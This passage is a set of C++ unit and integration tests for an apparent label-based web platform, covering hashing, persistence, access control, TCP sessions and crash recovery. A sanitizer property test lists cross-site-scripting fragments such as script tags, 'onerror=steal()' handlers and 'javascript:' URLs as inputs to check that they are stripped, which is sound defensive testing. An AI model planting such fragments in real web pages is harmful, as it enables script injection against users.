  EXPECT_EQ(h.finish_hex(), sha256_hex("abc"));
}

TEST(Sha256Test, ResetAllowsReuseAcrossStreams) {
  // The snapshot verifier hashes candidate files with one reused hasher;
  // reset() must erase all carry-over, including mid-block buffered bytes.
  Sha256 h;
  h.update("some unrelated stream that is not a full block");
  h.reset();
  h.update("abc");
  EXPECT_EQ(h.finish_hex(), sha256_hex("abc"));
  h.reset();
  h.update("");
  EXPECT_EQ(h.finish_hex(), sha256_hex(""));
}

// Boundary lengths around the 64-byte block and 56-byte padding cutoff.
class Sha256Boundary : public ::testing::TestWithParam<std::size_t> {};

TEST_P(Sha256Boundary, SplitUpdateMatchesOneShot) {
  const std::string data(GetParam(), 'x');
  Sha256 h;
  h.update(std::string_view(data).substr(0, data.size() / 2));
  h.update(std::string_view(data).substr(data.size() / 2));
  const auto digest = h.finish();
  std::string raw(reinterpret_cast<const char*>(digest.data()), digest.size());
  EXPECT_EQ(raw, sha256_raw(data));
}

INSTANTIATE_TEST_SUITE_P(Lengths, Sha256Boundary,
                         ::testing::Values(0, 1, 55, 56, 57, 63, 64, 65, 119,
                                           120, 127, 128, 129, 1000));

}  // namespace
}  // namespace w5::util
