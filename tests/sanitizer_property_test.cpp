// Property suite for the §3.5 JavaScript filter: on ANY input (random
// tag soup included), the output contains no <script block, no inline
// on*= handler in a tag, and no javascript: URL — and already-clean
// documents pass through byte-identical.
#include <gtest/gtest.h>

#include <cctype>

#include "core/sanitizer.h"
#include "util/rng.h"
#include "util/strings.h"

namespace w5::platform {
namespace {

std::string lower(const std::string& s) { return util::to_lower(s); }

// Oracle checks over sanitizer output.
bool contains_script_open(const std::string& html) {
  return lower(html).find("<script") != std::string::npos;
}

bool contains_js_url(const std::string& html) {
  return lower(html).find("javascript:") != std::string::npos;
}

// Inline handler: inside a tag, whitespace followed by "on[a-z]+=".
bool contains_inline_handler(const std::string& html) {
  const std::string low = lower(html);
  bool in_tag = false;
  for (std::size_t i = 0; i < low.size(); ++i) {
    if (low[i] == '<') in_tag = true;
    if (low[i] == '>') in_tag = false;
    if (!in_tag) continue;
    if ((low[i] == ' ' || low[i] == '\t') && i + 3 < low.size() &&
        low[i + 1] == 'o' && low[i + 2] == 'n') {
      std::size_t j = i + 3;
      while (j < low.size() && low[j] >= 'a' && low[j] <= 'z') ++j;
      if (j < low.size() && low[j] == '=' && j > i + 3) return true;
    }
  }
  return false;
}

std::string random_html(util::Rng& rng) {
  static const char* kPieces[] = {
      "<p>", "</p>", "<div class=\"x\">", "</div>", "plain text ",
      "<script>evil()</script>", "<script src='x'>", "</script>",
      "<a href=\"javascript:boom()\">", "<a href=\"/ok\">", "</a>",
      "<img src=x onerror=steal()>", "<img src=\"a.png\">",
      "<body onload=\"x()\">", "<span ONCLICK='y'>", "random > stray < ",
      "<SCRIPT>UPPER</SCRIPT>", "entity &amp; text ", "<online>",  // not on*
      "<p ongoing=maybe>",  // attribute starting with "on" — stripped (safe)
  };
  std::string out;
  const std::size_t pieces = 1 + rng.next_below(30);
  for (std::size_t i = 0; i < pieces; ++i) {
    out += kPieces[rng.next_below(std::size(kPieces))];
    if (rng.next_bool(0.2)) out += rng.next_string(rng.next_below(12));
  }
  return out;
}

class SanitizerProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(SanitizerProperty, OutputNeverContainsActiveContent) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 300; ++round) {
    const std::string input = random_html(rng);
    const std::string output = strip_javascript(input);
    EXPECT_FALSE(contains_script_open(output)) << input << "\n->\n" << output;
    EXPECT_FALSE(contains_js_url(output)) << input << "\n->\n" << output;
    EXPECT_FALSE(contains_inline_handler(output))
        << input << "\n->\n" << output;
    // Idempotence: sanitizing twice changes nothing further.
    EXPECT_EQ(strip_javascript(output), output);
  }
}

TEST_P(SanitizerProperty, CleanDocumentsPassThroughExactly) {
  util::Rng rng(GetParam() + 99);
  static const char* kClean[] = {
      "<p>", "</p>", "<div class=\"x\">", "</div>", "words and spaces ",
      "<a href=\"/relative\">", "</a>", "<img src=\"a.png\">",
      "&lt;script&gt; as text ",
  };
  for (int round = 0; round < 200; ++round) {
    std::string input;
    const std::size_t pieces = 1 + rng.next_below(20);
    for (std::size_t i = 0; i < pieces; ++i)
      input += kClean[rng.next_below(std::size(kClean))];
    bool modified = true;
    EXPECT_EQ(strip_javascript(input, &modified), input);
    EXPECT_FALSE(modified) << input;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, SanitizerProperty,
                         ::testing::Values(1, 2, 3, 4, 5));

}  // namespace
}  // namespace w5::platform
