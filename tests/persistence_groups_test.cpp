// Disk persistence, group declassifiers, and anti-social downranking.
#include <gtest/gtest.h>

#include <cstdio>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::Method;

TEST(DiskPersistenceTest, SaveLoadRoundTrip) {
  const std::string path = "/tmp/w5_snapshot_test.json";
  util::SimClock clock;
  {
    Provider provider(ProviderConfig{}, clock);
    ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    const std::string bob = provider.login("bob", "bobpw").value();
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                            R"({"title":"persisted"})", bob).status,
              201);
    ASSERT_TRUE(provider.save_to_file(path).ok());
  }
  Provider restored(ProviderConfig{}, clock);
  ASSERT_TRUE(restored.load_from_file(path).ok());
  EXPECT_TRUE(restored.login("bob", "bobpw").ok());
  EXPECT_EQ(restored.store()
                .get(os::kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "persisted");
  std::remove(path.c_str());
  // Missing file fails cleanly.
  EXPECT_EQ(restored.load_from_file("/nonexistent/dir/x.json").error().code,
            "io.open");
}

TEST(GroupDeclassifierTest, SharesWithStoredGroupMembers) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  apps::register_standard_apps(provider);
  provider.add_group_declassifier("roommates");

  std::map<std::string, std::string> session;
  for (const char* user : {"bob", "amy", "dan", "eve"}) {
    ASSERT_TRUE(provider.signup(user, "password").ok());
    session[user] = provider.login(user, "password").value();
  }
  const std::string& bob = session["bob"];
  // Bob's group membership record (his own data; group declassifier
  // reads it with provider authority, like the friend list).
  ASSERT_EQ(provider.http(Method::kPost, "/data/groups/roommates",
                          R"({"members":["amy","dan"]})", bob).status,
            201);
  ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                          R"({"title":"apartment rules"})", bob).status,
            201);
  ASSERT_EQ(provider.http(Method::kPost, "/policy",
                          R"({"declassifier":"std/group/roommates"})", bob)
                .status,
            200);

  EXPECT_EQ(provider.http(Method::kGet, "/data/photos/p1", "",
                          session["amy"]).status,
            200);
  EXPECT_EQ(provider.http(Method::kGet, "/data/photos/p1", "",
                          session["dan"]).status,
            200);
  EXPECT_EQ(provider.http(Method::kGet, "/data/photos/p1", "",
                          session["eve"]).status,
            403);
  EXPECT_EQ(provider.http(Method::kGet, "/data/photos/p1", "", bob).status,
            200);
}

TEST(AntiSocialTest, ProprietaryFormatRanksBelowConventionalTwin) {
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);

  const auto handler = [](AppContext&) {
    return net::HttpResponse::text(200, "x");
  };
  Module conventional;
  conventional.developer = "goodco";
  conventional.name = "editor";
  conventional.version = "1.0";
  conventional.manifest.description = "text editor";
  conventional.manifest.data_format = "json";
  conventional.handler = handler;
  Module antisocial = conventional;
  antisocial.developer = "lockinco";
  antisocial.manifest.data_format = "proprietary-blob";
  ASSERT_TRUE(provider.modules().add(conventional).ok());
  ASSERT_TRUE(provider.modules().add(antisocial).ok());

  const auto hits = provider.http(Method::kGet, "/search?q=editor");
  ASSERT_EQ(hits.status, 200);
  // Identical signals otherwise, so the proprietary one sorts second.
  EXPECT_LT(hits.body.find("goodco/editor@1.0"),
            hits.body.find("lockinco/editor@1.0"));
}

}  // namespace
}  // namespace w5::platform
