#include <gtest/gtest.h>

#include "difc/codec.h"
#include "difc/endpoint.h"
#include "difc/tag_registry.h"

namespace w5::difc {
namespace {

Tag t(std::uint64_t id) { return Tag(id); }

TEST(EndpointTest, SafetyMirrorsLabelChangeRule) {
  // Owner is clean but owns t1-; an endpoint with S={} is safe even if the
  // owner later gets contaminated with t1 (it could declassify).
  LabelState owner({t(1)}, {}, CapabilitySet{minus(t(1))});
  const Endpoint clean_ep({}, {});
  EXPECT_TRUE(clean_ep.safe_for(owner));

  LabelState unprivileged({t(1)}, {}, {});
  EXPECT_FALSE(clean_ep.safe_for(unprivileged));

  // Endpoint above the owner's label needs t+.
  const Endpoint high_ep(Label{t(2)}, {});
  LabelState can_raise({}, {}, CapabilitySet{plus(t(2))});
  EXPECT_TRUE(high_ep.safe_for(can_raise));
  LabelState cannot_raise({}, {}, {});
  EXPECT_FALSE(high_ep.safe_for(cannot_raise));
}

TEST(EndpointTest, SendChecksEndpointLabelsNotProcessLabels) {
  // Declassifier pattern: contaminated process exports through a clean
  // endpoint because it owns the minus capability.
  LabelState declassifier({t(1)}, {}, CapabilitySet{minus(t(1))});
  const Endpoint out_ep({}, {});
  LabelState browser({}, {}, {});
  const Endpoint browser_ep({}, {});
  EXPECT_TRUE(out_ep.check_send(declassifier, browser_ep, browser).ok());

  // The same send from a process lacking t1- is refused: its clean
  // endpoint is unsafe.
  LabelState malicious({t(1)}, {}, {});
  const auto denied = out_ep.check_send(malicious, browser_ep, browser);
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "endpoint.unsafe");
}

TEST(EndpointTest, SendRespectsLatticeBetweenEndpoints) {
  LabelState a({t(1)}, {}, {});
  LabelState b({}, {}, CapabilitySet{plus(t(1))});
  const Endpoint src(Label{t(1)}, {});
  Endpoint sink_low({}, {});
  // b's endpoint sits below the message label and b owns only t1+ —
  // endpoint safe (could raise) but lattice check fails at the endpoints.
  EXPECT_FALSE(src.check_send(a, sink_low, b).ok());
  Endpoint sink_high(Label{t(1)}, {});
  EXPECT_TRUE(src.check_send(a, sink_high, b).ok());
}

TEST(EndpointTest, AutoRaiseAdmitsWhenOwnerCouldRaise) {
  LabelState owner({}, {}, CapabilitySet{plus(t(3))});
  Endpoint ep({}, {}, Endpoint::Mode::kAutoRaise);
  EXPECT_TRUE(ep.admit(owner, Label{t(3)}).ok());
  EXPECT_EQ(ep.secrecy(), Label{t(3)});
  // Second admit of same label is a no-op.
  EXPECT_TRUE(ep.admit(owner, Label{t(3)}).ok());
  // Tag without t+ is refused.
  EXPECT_FALSE(ep.admit(owner, Label{t(4)}).ok());
  EXPECT_EQ(ep.secrecy(), Label{t(3)});
}

TEST(EndpointTest, FixedEndpointNeverFloats) {
  LabelState owner({}, {}, CapabilitySet{plus(t(3))});
  Endpoint ep({}, {}, Endpoint::Mode::kFixed);
  const auto denied = ep.admit(owner, Label{t(3)});
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(ep.secrecy(), Label{});
}

TEST(TagRegistryTest, AllocatesDistinctValidTags) {
  TagRegistry registry;
  const Tag a = registry.create("sec(alice)", TagPurpose::kSecrecy, "alice");
  const Tag b = registry.create("wp(alice)", TagPurpose::kIntegrity, "alice");
  EXPECT_TRUE(a.valid());
  EXPECT_NE(a, b);
  EXPECT_EQ(registry.size(), 2u);
  ASSERT_NE(registry.find(a), nullptr);
  EXPECT_EQ(registry.find(a)->name, "sec(alice)");
  EXPECT_EQ(registry.find(a)->purpose, TagPurpose::kSecrecy);
  EXPECT_EQ(registry.describe(a), "sec(alice)");
  EXPECT_EQ(registry.describe(Tag(999)), "t999");
}

TEST(TagRegistryTest, JsonRoundTrip) {
  TagRegistry registry;
  registry.create("sec(bob)", TagPurpose::kSecrecy, "bob");
  registry.create("wp(bob)", TagPurpose::kIntegrity, "bob");
  registry.create("rp(bob)", TagPurpose::kReadProtect, "bob");

  auto restored = TagRegistry::from_json(registry.to_json());
  ASSERT_TRUE(restored.ok());
  EXPECT_EQ(restored.value().size(), 3u);
  EXPECT_EQ(restored.value().describe(Tag(1)), "sec(bob)");
  // Allocation continues after the persisted ids.
  const Tag next = restored.value().create("x", TagPurpose::kOther);
  EXPECT_EQ(next.id(), 4u);
}

TEST(TagRegistryTest, RejectsCorruptJson) {
  EXPECT_FALSE(TagRegistry::from_json(util::Json("nope")).ok());
  auto bad_id = util::Json::parse(
      R"({"next_id":2,"tags":[{"id":5,"name":"x","purpose":"other","owner":""}]})");
  ASSERT_TRUE(bad_id.ok());
  EXPECT_FALSE(TagRegistry::from_json(bad_id.value()).ok());
  auto bad_purpose = util::Json::parse(
      R"({"next_id":2,"tags":[{"id":1,"name":"x","purpose":"wat","owner":""}]})");
  ASSERT_TRUE(bad_purpose.ok());
  EXPECT_FALSE(TagRegistry::from_json(bad_purpose.value()).ok());
}

TEST(CodecTest, LabelRoundTrip) {
  const Label l{t(3), t(1), t(9)};
  auto parsed = label_from_json(label_to_json(l));
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value(), l);
  EXPECT_FALSE(label_from_json(util::Json("x")).ok());
  EXPECT_FALSE(label_from_json(util::Json::array({0})).ok());
}

TEST(CodecTest, ObjectLabelsRoundTrip) {
  const ObjectLabels labels{Label{t(1)}, Label{t(2), t(3)}};
  auto parsed = object_labels_from_json(object_labels_to_json(labels));
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value(), labels);
}

TEST(CodecTest, CapabilitySetRoundTrip) {
  const CapabilitySet caps{plus(t(1)), minus(t(1)), minus(t(7))};
  auto parsed = capability_set_from_json(capability_set_to_json(caps));
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ(parsed.value(), caps);
  EXPECT_FALSE(capability_set_from_json(util::Json(1)).ok());
}

}  // namespace
}  // namespace w5::difc
