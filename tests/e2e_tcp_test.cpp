// Full-stack integration over real TCP sockets: browser-equivalent client
// speaks HTTP/1.1 to a provider served by the TCP listener, exercising
// parse → auth → app → perimeter → serialize end to end. Parameterized
// over both serving modes (DESIGN.md §15): the epoll reactor and the
// worker-per-connection pool must be observably identical here.
#include <gtest/gtest.h>

#include <thread>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/tcp.h"

namespace w5 {
namespace {

using net::HttpRequest;
using net::HttpResponse;
using net::Method;

class TcpEndToEnd : public ::testing::TestWithParam<platform::ServeMode> {
 protected:
  void SetUp() override {
    platform::ProviderConfig config;
    config.serve_mode = GetParam();
    provider_ =
        std::make_unique<platform::Provider>(std::move(config), clock_);
    apps::register_standard_apps(*provider_);
    ASSERT_TRUE(listener_.listen(0).ok());
    // Either mode: requests are handled on the provider's worker threads,
    // so concurrent clients exercise the locked hot path.
    server_thread_ = std::thread([this] { provider_->serve(listener_); });
  }

  void TearDown() override {
    listener_.close();
    // Unblock a blocking accept() by poking the port if needed (the
    // reactor notices the closed listener on its own).
    (void)net::tcp_connect(port());
    server_thread_.join();
  }

  std::uint16_t port() const { return listener_.port(); }

  // One browser-style request over a fresh connection.
  HttpResponse roundtrip(Method method, const std::string& target,
                         const std::string& body = {},
                         const std::string& cookie = {}) {
    auto connection = net::tcp_connect(port());
    EXPECT_TRUE(connection.ok());
    HttpRequest request;
    request.method = method;
    request.target = target;
    request.body = body;
    request.headers.set("Connection", "close");
    if (!cookie.empty()) request.headers.set("Cookie", cookie);
    net::HttpClient client;
    auto response = client.roundtrip(*connection.value(), request);
    EXPECT_TRUE(response.ok()) << response.ok();
    return response.ok() ? response.value() : HttpResponse{};
  }

  util::WallClock clock_;
  std::unique_ptr<platform::Provider> provider_;
  net::TcpListener listener_;
  std::thread server_thread_;
};

INSTANTIATE_TEST_SUITE_P(
    ServeModes, TcpEndToEnd,
    ::testing::Values(platform::ServeMode::kEventLoop,
                      platform::ServeMode::kPooled),
    [](const ::testing::TestParamInfo<platform::ServeMode>& param) {
      return param.param == platform::ServeMode::kEventLoop ? "EventLoop"
                                                            : "Pooled";
    });

TEST_P(TcpEndToEnd, BrowserSessionOverRealSockets) {
  // Sign up + log in; lift the cookie from Set-Cookie like a browser.
  EXPECT_EQ(roundtrip(Method::kPost, "/signup",
                      "user=bob&password=hunter2").status,
            201);
  const auto login =
      roundtrip(Method::kPost, "/login", "user=bob&password=hunter2");
  ASSERT_EQ(login.status, 200);
  const std::string set_cookie =
      login.headers.get("Set-Cookie").value_or("");
  ASSERT_TRUE(set_cookie.starts_with("w5session="));
  const std::string cookie =
      set_cookie.substr(0, set_cookie.find(';'));

  // Upload, then view through an app, authenticated by cookie only.
  EXPECT_EQ(roundtrip(Method::kPost, "/data/photos/p1",
                      R"({"title":"over tcp"})", cookie).status,
            201);
  const auto view = roundtrip(
      Method::kGet, "/dev/photoco/photos/view?id=p1", "", cookie);
  EXPECT_EQ(view.status, 200) << view.body;
  EXPECT_NE(view.body.find("over tcp"), std::string::npos);
  EXPECT_EQ(view.headers.get("X-W5-Label"), "sec(bob)");

  // Unauthenticated request to the same URL: perimeter says no.
  const auto blocked =
      roundtrip(Method::kGet, "/dev/photoco/photos/view?id=p1");
  EXPECT_EQ(blocked.status, 403);
  EXPECT_EQ(blocked.body.find("over tcp"), std::string::npos);
}

TEST_P(TcpEndToEnd, MalformedWireBytesGet400) {
  auto connection = net::tcp_connect(port());
  ASSERT_TRUE(connection.ok());
  ASSERT_TRUE(connection.value()->write("GARBAGE\r\n\r\n").ok());
  net::ResponseParser parser;
  char buf[4096];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.value()->read(buf, sizeof(buf));
    if (!n.ok() || n.value() == 0) break;
    parser.feed(std::string_view(buf, n.value()));
  }
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().status, 400);
}

TEST(TcpEndToEndDispatch, PooledAppDispatchServesThroughWorkerPool) {
  // The reactor's non-default dispatch policy: handlers on the worker
  // pool, responses returning through the completion mailbox.
  util::WallClock clock;
  platform::ProviderConfig config;
  config.serve_mode = platform::ServeMode::kEventLoop;
  config.app_dispatch = platform::AppDispatch::kPooled;
  platform::Provider provider(std::move(config), clock);
  apps::register_standard_apps(provider);
  net::TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  std::thread server_thread([&] { provider.serve(listener); });

  auto connection = net::tcp_connect(listener.port());
  ASSERT_TRUE(connection.ok());
  net::HttpClient client;
  HttpRequest request;
  request.method = Method::kGet;
  request.target = "/stats";
  request.headers.set("Connection", "close");
  auto response = client.roundtrip(*connection.value(), request);
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 200);

  listener.close();
  server_thread.join();
}

TEST_P(TcpEndToEnd, KeepAliveSessionReusesOneConnection) {
  // Several requests over one connection: framing, keep-alive, and the
  // gateway's session handling all hold on a reused socket.
  auto connection = net::tcp_connect(port());
  ASSERT_TRUE(connection.ok());
  net::HttpClient client;
  for (int i = 0; i < 3; ++i) {
    HttpRequest request;
    request.method = Method::kGet;
    request.target = "/stats";
    auto response = client.roundtrip(*connection.value(), request);
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 200);
  }
}

}  // namespace
}  // namespace w5
