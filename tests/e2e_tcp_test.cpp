// Full-stack integration over real TCP sockets: browser-equivalent client
// speaks HTTP/1.1 to a provider served by the TCP listener, exercising
// parse → auth → app → perimeter → serialize end to end.
#include <gtest/gtest.h>

#include <thread>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/tcp.h"

namespace w5 {
namespace {

using net::HttpRequest;
using net::HttpResponse;
using net::Method;

class TcpEndToEnd : public ::testing::Test {
 protected:
  void SetUp() override {
    provider_ = std::make_unique<platform::Provider>(
        platform::ProviderConfig{}, clock_);
    apps::register_standard_apps(*provider_);
    ASSERT_TRUE(listener_.listen(0).ok());
    // Pooled serving: connections are handled on the provider's worker
    // threads, so concurrent clients exercise the locked hot path.
    server_thread_ = std::thread([this] { provider_->serve(listener_); });
  }

  void TearDown() override {
    listener_.close();
    // Unblock accept() by poking the port if needed.
    (void)net::tcp_connect(port());
    server_thread_.join();
  }

  std::uint16_t port() const { return listener_.port(); }

  // One browser-style request over a fresh connection.
  HttpResponse roundtrip(Method method, const std::string& target,
                         const std::string& body = {},
                         const std::string& cookie = {}) {
    auto connection = net::tcp_connect(port());
    EXPECT_TRUE(connection.ok());
    HttpRequest request;
    request.method = method;
    request.target = target;
    request.body = body;
    request.headers.set("Connection", "close");
    if (!cookie.empty()) request.headers.set("Cookie", cookie);
    net::HttpClient client;
    auto response = client.roundtrip(*connection.value(), request);
    EXPECT_TRUE(response.ok()) << response.ok();
    return response.ok() ? response.value() : HttpResponse{};
  }

  util::WallClock clock_;
  std::unique_ptr<platform::Provider> provider_;
  net::TcpListener listener_;
  std::thread server_thread_;
};

TEST_F(TcpEndToEnd, BrowserSessionOverRealSockets) {
  // Sign up + log in; lift the cookie from Set-Cookie like a browser.
  EXPECT_EQ(roundtrip(Method::kPost, "/signup",
                      "user=bob&password=hunter2").status,
            201);
  const auto login =
      roundtrip(Method::kPost, "/login", "user=bob&password=hunter2");
  ASSERT_EQ(login.status, 200);
  const std::string set_cookie =
      login.headers.get("Set-Cookie").value_or("");
  ASSERT_TRUE(set_cookie.starts_with("w5session="));
  const std::string cookie =
      set_cookie.substr(0, set_cookie.find(';'));

  // Upload, then view through an app, authenticated by cookie only.
  EXPECT_EQ(roundtrip(Method::kPost, "/data/photos/p1",
                      R"({"title":"over tcp"})", cookie).status,
            201);
  const auto view = roundtrip(
      Method::kGet, "/dev/photoco/photos/view?id=p1", "", cookie);
  EXPECT_EQ(view.status, 200) << view.body;
  EXPECT_NE(view.body.find("over tcp"), std::string::npos);
  EXPECT_EQ(view.headers.get("X-W5-Label"), "sec(bob)");

  // Unauthenticated request to the same URL: perimeter says no.
  const auto blocked =
      roundtrip(Method::kGet, "/dev/photoco/photos/view?id=p1");
  EXPECT_EQ(blocked.status, 403);
  EXPECT_EQ(blocked.body.find("over tcp"), std::string::npos);
}

TEST_F(TcpEndToEnd, MalformedWireBytesGet400) {
  auto connection = net::tcp_connect(port());
  ASSERT_TRUE(connection.ok());
  ASSERT_TRUE(connection.value()->write("GARBAGE\r\n\r\n").ok());
  net::ResponseParser parser;
  char buf[4096];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.value()->read(buf, sizeof(buf));
    if (!n.ok() || n.value() == 0) break;
    parser.feed(std::string_view(buf, n.value()));
  }
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().status, 400);
}

}  // namespace
}  // namespace w5
