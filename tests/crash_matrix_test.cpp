// Crash matrix (DESIGN.md §13): pull the plug at every WAL frame
// boundary — and one byte either side of it — and prove recovery always
// lands on exactly the longest committed prefix, with every label intact
// and a second recovery finding nothing more to repair.
//
// Method: one fault-free run of a fixed workload yields the canonical
// frame stream (the workload is deterministic: simulated clock,
// single-threaded requests, deterministic salts, sorted serializers).
// Each matrix cell reruns the identical workload with a FileFaultPlan
// that silently drops every byte past offset N — the power-cut model —
// then recovers and compares against a reference provider rebuilt from
// the first K committed frames alone.
#include <gtest/gtest.h>

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "core/provider.h"
#include "store/durable_store.h"
#include "store/wal.h"
#include "util/clock.h"

namespace w5::store {
namespace {

namespace fs = std::filesystem;
using net::Method;
using platform::Provider;
using platform::ProviderConfig;

class ScratchDir {
 public:
  explicit ScratchDir(const std::string& tag) {
    static int counter = 0;
    path_ = (fs::temp_directory_path() /
             ("w5_crash_" + tag + "_" + std::to_string(::getpid()) + "_" +
              std::to_string(counter++)))
                .string();
    fs::remove_all(path_);
  }
  ~ScratchDir() { fs::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

ProviderConfig durable_config(const std::string& dir,
                              net::FileFaultPlan fault = {}) {
  ProviderConfig config;
  config.durability.enabled = true;
  config.durability.dir = dir;
  config.durability.mode = DurabilityMode::kFsync;
  config.durability.snapshot_every_entries = 0;  // no background compaction
  config.durability.fault = fault;
  return config;
}

// The fixed workload: two signups (tags, accounts, home dirs) and two
// labeled records. Every op succeeds even under a crash plan — the
// process doesn't know its disk is gone.
void run_workload(const ProviderConfig& config, const util::Clock& clock) {
  Provider provider(config, clock);
  ASSERT_TRUE(provider.durability_status().ok());
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  ASSERT_TRUE(provider.signup("amy", "amypw").ok());
  const std::string bob = provider.login("bob", "bobpw").value();
  const std::string amy = provider.login("amy", "amypw").value();
  ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                          R"({"title":"bob's"})", bob).status,
            201);
  ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p2",
                          R"({"title":"amy's"})", amy).status,
            201);
}

// Frames of the canonical (fault-free) run, in sequence order.
std::vector<std::string> canonical_frames(const std::string& dir) {
  std::vector<std::string> payloads;
  auto replayed = WriteAheadLog::replay(
      dir, 1,
      [&](std::uint64_t, const std::string& payload) {
        payloads.push_back(payload);
        return util::ok_status();
      },
      /*repair=*/false);
  EXPECT_TRUE(replayed.ok());
  EXPECT_FALSE(replayed.value().tail_torn);
  return payloads;
}

// Builds a WAL directory holding exactly the first `k` canonical frames
// and recovers a provider from it: the ground truth for "state after the
// longest committed prefix of length k".
std::string reference_state(const std::vector<std::string>& frames,
                            std::size_t k, const util::Clock& clock) {
  ScratchDir dir("ref");
  fs::create_directories(dir.path());
  std::string bytes;
  for (std::size_t i = 0; i < k; ++i)
    wal_encode_frame(i + 1, frames[i], bytes);
  std::ofstream((fs::path(dir.path()) / wal_segment_name(1)).string(),
                std::ios::binary)
      << bytes;
  Provider provider(durable_config(dir.path()), clock);
  EXPECT_TRUE(provider.durability_status().ok());
  EXPECT_EQ(provider.recovery_stats().last_seq, k);
  return provider.snapshot().dump();
}

TEST(CrashMatrixTest, EveryFrameBoundaryPlusMinusOneByte) {
  util::SimClock clock;

  // Canonical run: no faults; capture the frame stream.
  ScratchDir canonical("canonical");
  run_workload(durable_config(canonical.path()), clock);
  const std::vector<std::string> frames = canonical_frames(canonical.path());
  ASSERT_GE(frames.size(), 10u);  // 2 signups × 5 ops + 2 puts

  // Frame-boundary byte offsets within the single segment.
  std::vector<std::uint64_t> boundaries{0};
  for (const std::string& payload : frames)
    boundaries.push_back(boundaries.back() + kWalHeaderBytes +
                         payload.size());

  // Ground truth per prefix length, built once.
  std::vector<std::string> reference;
  reference.reserve(frames.size() + 1);
  for (std::size_t k = 0; k <= frames.size(); ++k)
    reference.push_back(reference_state(frames, k, clock));

  // Committed prefix at crash offset N: frames whose bytes all fit in N.
  const auto prefix_at = [&](std::uint64_t offset) {
    std::size_t k = 0;
    while (k < frames.size() && boundaries[k + 1] <= offset) ++k;
    return k;
  };

  std::set<std::uint64_t> offsets;
  for (const std::uint64_t b : boundaries) {
    if (b > 0) offsets.insert(b - 1);
    offsets.insert(b);
    offsets.insert(b + 1);
  }

  for (const std::uint64_t offset : offsets) {
    SCOPED_TRACE("crash at byte " + std::to_string(offset));
    const std::size_t k = prefix_at(offset);

    // The same workload, with the plug pulled at `offset`.
    ScratchDir dir("cell");
    auto fault = net::FileFaultPlan::crash_at(offset);
    run_workload(durable_config(dir.path(), fault), clock);
    if (offset < boundaries.back()) {
      EXPECT_TRUE(fault.crashed());
    }

    // First recovery: exactly the longest committed prefix survives, and
    // a torn tail is reported iff the crash split a frame.
    std::optional<Provider> recovered;
    recovered.emplace(durable_config(dir.path()), clock);
    ASSERT_TRUE(recovered->durability_status().ok());
    const auto stats = recovered->recovery_stats();
    EXPECT_EQ(stats.last_seq, k);
    EXPECT_EQ(stats.replayed_entries, k);
    const std::uint64_t persisted = std::min(offset, boundaries.back());
    EXPECT_EQ(stats.tail_torn, persisted != boundaries[k]);
    EXPECT_EQ(stats.truncated_bytes, persisted - boundaries[k]);
    EXPECT_EQ(recovered->snapshot().dump(), reference[k]);

    // Labels never detach: any record that survived still wears its
    // owner's secrecy tag.
    for (const char* user : {"bob", "amy"}) {
      const auto* account = recovered->users().find(user);
      if (account == nullptr) continue;
      const std::string id = user == std::string("bob") ? "p1" : "p2";
      auto record = recovered->store().get(os::kKernelPid, "photos", id);
      if (!record.ok()) continue;
      EXPECT_TRUE(record.value().labels.secrecy.contains(
          account->secrecy_tag));
    }

    // The recovered provider keeps appending: a mutation made after the
    // crash survives its own restart.
    const bool bob_exists = recovered->users().find("bob") != nullptr;
    if (bob_exists) {
      platform::UserPolicy policy;
      policy.secrecy_declassifier = "std/public";
      recovered->policies().set("bob", std::move(policy));
    }
    const std::string after = recovered->snapshot().dump();
    recovered.reset();  // clean shutdown drains the WAL

    // Second recovery: idempotent — the repaired log replays to the same
    // state with nothing further to truncate.
    recovered.emplace(durable_config(dir.path()), clock);
    EXPECT_EQ(recovered->recovery_stats().truncated_bytes, 0u);
    EXPECT_FALSE(recovered->recovery_stats().tail_torn);
    EXPECT_EQ(recovered->recovery_stats().last_seq,
              stats.last_seq + (bob_exists ? 1 : 0));
    EXPECT_EQ(recovered->snapshot().dump(), after);
  }
}

}  // namespace
}  // namespace w5::store
