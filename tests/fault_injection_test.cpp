// The deterministic fault-injection harness (DESIGN.md §12): scripted
// and seeded fault schedules, retry/backoff, the per-peer circuit
// breaker, and a seeded chaos sweep over the HTTP server — every suite
// here replays identically for a fixed seed.
#include <gtest/gtest.h>

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "core/provider.h"
#include "fed/node.h"
#include "net/backoff.h"
#include "net/circuit_breaker.h"
#include "net/fault.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/transport.h"
#include "util/clock.h"

namespace w5::net {
namespace {

